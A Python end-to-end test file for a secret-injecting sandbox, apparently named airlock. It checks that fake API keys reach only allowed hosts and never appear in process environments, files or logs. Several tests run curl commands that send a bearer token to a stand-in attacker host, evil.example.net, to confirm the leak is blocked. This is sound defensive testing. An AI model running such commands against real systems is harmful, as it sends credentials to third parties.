"""The Rust builder's examples against the upstream lab (tests/e2e/sdk_lab.py), with fake values:
what the upstream received, and where the values are not (no argv, no environ, no file, no log)."""
import glob
import json
import os
import secrets
import tempfile

import pytest

from airlock import NetworkConfig, Sandbox, SandboxStopped, SecretEntry, ViolationAction


def fake(name):
    return f"sk-airlock-py-FAKE-{name}-{secrets.token_hex(8)}"


def lab_network(env, action=ViolationAction.DEFAULT):
    return lambda n: (n.on_secret_violation(action).egress(env["AIRLOCK_LAB_EGRESS"])
                      .dns_server(env["AIRLOCK_LAB_DNS"]).upstream_ca_file(env["AIRLOCK_LAB_CA"]))


def received(env, marker):
    try:
        with open(env["AIRLOCK_LAB_ACCESS_LOG"]) as f:
            return [r for r in map(json.loads, f) if marker in r["uri"]]
    except FileNotFoundError:
        return []


def got_bearer(env, marker, value):
    """'the real value', 'not the value' or 'N requests' (never the value itself)."""
    recs = received(env, marker)
    if len(recs) != 1:
        return f"{len(recs)} requests"
    return "the real value" if recs[0]["authorization"] == "Bearer " + value else "not the value"


def curl(host, marker, env_var, extra=""):
    return (f'curl -sS -m 20 -o /dev/null -w "%{{http_code}}\\n" -H "Authorization: Bearer ${env_var}" {extra} '
            f'"https://{host}/{marker}"')


def scan_proc(values):
    checked = 0
    for d in glob.glob("/proc/[0-9]*"):
        for f in ("cmdline", "environ"):
            try:
                with open(os.path.join(d, f), "rb") as fh:
                    data = fh.read()
            except OSError:
                continue
            checked += 1
            for name, v in values.items():
                assert v.encode() not in data, f"{d}/{f} holds the value of {name}"
    assert checked > 10


def scan_files(values, roots, skip):
    for root in roots:
        for dirpath, _, files in os.walk(root):
            for name in files:
                p = os.path.join(dirpath, name)
                if p == skip or not os.path.isfile(p) or os.path.islink(p) or os.path.getsize(p) > 4 << 20:
                    continue
                try:
                    with open(p, "rb") as fh:
                        data = fh.read()
                except OSError:
                    continue
                for k, v in values.items():
                    assert v.encode() not in data, f"{p} holds the value of {k}"


def test_the_rust_builder_examples(lab):
    openai, stripe = fake("OPENAI"), fake("STRIPE")
    log = tempfile.TemporaryFile()
    with (Sandbox.builder("worker")
          .secret(lambda s: s.env("OPENAI_API_KEY").value(openai).allow_host("api.openai.com"))
          .secret_env("STRIPE_KEY", stripe, "api.stripe.com")
          .network(lab_network(lab))
          .log_output(log)
          .create()) as sb:
        r = sb.run(" ; ".join([curl("api.openai.com", "py-openai", "OPENAI_API_KEY"),
                               curl("api.stripe.com", "py-stripe", "STRIPE_KEY"),
                               curl("evil.example.net", "py-evil", "OPENAI_API_KEY") + " 2>/dev/null",
                               curl("api.stripe.com", "py-openai-at-stripe", "OPENAI_API_KEY") + " 2>/dev/null"]))
        assert r.stdout == b"200\n200\n000\n000\n"
        assert got_bearer(lab, "py-openai", openai) == "the real value"
        assert got_bearer(lab, "py-stripe", stripe) == "the real value"
        assert received(lab, "py-evil") == [] and received(lab, "py-openai-at-stripe") == []
        assert [v["secret"] for v in sb.violations] == ["OPENAI_API_KEY", "OPENAI_API_KEY"]
        scan_proc({"OPENAI": openai, "STRIPE": stripe})
    log.seek(0)
    text = log.read()
    assert b"secret violation" in text
    assert openai.encode() not in text and stripe.encode() not in text


def test_scopes_patterns_and_any_host(lab):
    value = fake("SCOPES")
    with (Sandbox.builder("w")
          .secret(lambda s: s.env("Q_KEY").value(value).allow_host_pattern("*.example.com").inject_query(True))
          .secret(lambda s: s.env("H_KEY").value(fake("H")).allow_host("api.example.com"))
          .network(lab_network(lab)).create()) as sb:
        r = sb.run('curl -sS -m 20 -o /dev/null -w "%{http_code}\\n" "https://api.example.com/py-query?key=$Q_KEY"; '
                   'curl -sS -m 20 -o /dev/null -w "%{http_code}\\n" "https://api.example.com/py-noquery?key=$H_KEY"')
        assert r.stdout == b"200\n200\n", r
        (q,) = received(lab, "py-query")
        assert q["uri"] == "/py-query?key=" + value  # query scope on: substituted
        (h,) = received(lab, "py-noquery")
        assert h["uri"] == "/py-noquery?key=$MSB_H_KEY"  # off by default: forwarded unchanged
    anyv = fake("ANY")
    with (Sandbox.builder("w")
          .secret(lambda s: s.env("ANY_KEY").value(anyv).allow_any_host_dangerous(i_understand_the_risk=True))
          .network(lab_network(lab)).create()) as sb:
        assert sb.run(curl("evil.example.net", "py-any", "ANY_KEY")).stdout == b"200\n"
        assert got_bearer(lab, "py-any", anyv) == "the real value"


def test_dataclass_form_and_block_and_terminate(lab):
    value = fake("TERM")
    entry = SecretEntry("API_KEY", value, allow_hosts=["api.example.com"])
    net = NetworkConfig(on_secret_violation=ViolationAction.BLOCK_AND_TERMINATE, egress=[lab["AIRLOCK_LAB_EGRESS"]],
                        dns_servers=[lab["AIRLOCK_LAB_DNS"]], upstream_ca_files=[lab["AIRLOCK_LAB_CA"]])
    audit = os.path.join(tempfile.mkdtemp(), "audit.jsonl")
    with Sandbox.create("w", secrets=[entry], network=net, audit_log=audit, log_output=tempfile.TemporaryFile()) as sb:
        assert sb.run(curl("api.example.com", "py-dc-ok", "API_KEY")).stdout == b"200\n"
        assert got_bearer(lab, "py-dc-ok", value) == "the real value"
        with pytest.raises(SandboxStopped):
            sb.run(curl("evil.example.net", "py-dc-evil", "API_KEY") + "; sleep 30")
        assert sb.wait_stopped(10)
        assert sb.stop_code == 125 and "API_KEY" in sb.stop_reason
        assert received(lab, "py-dc-evil") == []
        assert sb.violations and sb.violations[0]["action"] == "block-and-terminate"
    with open(audit) as f:
        text = f.read()
    assert '"substitution"' in text and '"violation"' in text and value not in text
    scan_files({"TERM": value}, [lab["AIRLOCK_HOME"], "/run/airlock", os.path.dirname(audit), lab["AIRLOCK_LAB_DIR"],
                                 tempfile.gettempdir()], lab["AIRLOCK_LAB_ACCESS_LOG"])


def test_an_exported_value_is_not_inherited_by_airlock(lab, monkeypatch):
    # The value is in this process's os.environ (the usual source, os.environ["OPENAI_API_KEY"]):
    # airlock must be started without it, or /proc/<airlock>/environ would show it.
    value = fake("EXPORTED")
    monkeypatch.setenv("OPENAI_API_KEY", value)
    monkeypatch.setenv("UNRELATED_TOKEN", value + "-suffix")
    with Sandbox.builder("w").secret_env("OPENAI_API_KEY", os.environ["OPENAI_API_KEY"], "api.openai.com") \
            .network(lab_network(lab)).create() as sb:
        assert sb.run("true").ok
        scan_proc({"EXPORTED": value})


def test_require_tls_identity(lab):
    # require_tls_identity(False) lets a secret be substituted over plain HTTP (weaker); by
    # default a value is only put into TLS that airlock intercepted and verified.
    plain, tls_only = fake("PLAIN"), fake("TLSONLY")
    with (Sandbox.builder("w")
          .secret(lambda s: s.env("PLAIN_KEY").value(plain).allow_host("api.example.com").require_tls_identity(False))
          .secret(lambda s: s.env("TLS_KEY").value(tls_only).allow_host("api.stripe.com"))
          .network(lambda n: lab_network(lab)(n).egress(lab["AIRLOCK_LAB_EGRESS_HTTP"]))
          .log_output(tempfile.TemporaryFile()).create()) as sb:
        r = sb.run('curl -sS -m 20 -o /dev/null -w "%{http_code}\\n" -H "Authorization: Bearer $PLAIN_KEY" '
                   'http://api.example.com/py-plain; '
                   'curl -sS -m 20 -o /dev/null -w "%{http_code}\\n" -H "Authorization: Bearer $TLS_KEY" '
                   'http://api.stripe.com/py-plain-tls 2>/dev/null; true')
        assert r.stdout == b"200\n000\n", r
        assert got_bearer(lab, "py-plain", plain) == "the real value"
        # The TLS-only secret's placeholder over plain HTTP is a violation: not forwarded at all.
        assert received(lab, "py-plain-tls") == []
        (v,) = sb.violations
        assert v["secret"] == "TLS_KEY" and "no verified TLS identity" in v["reason"]
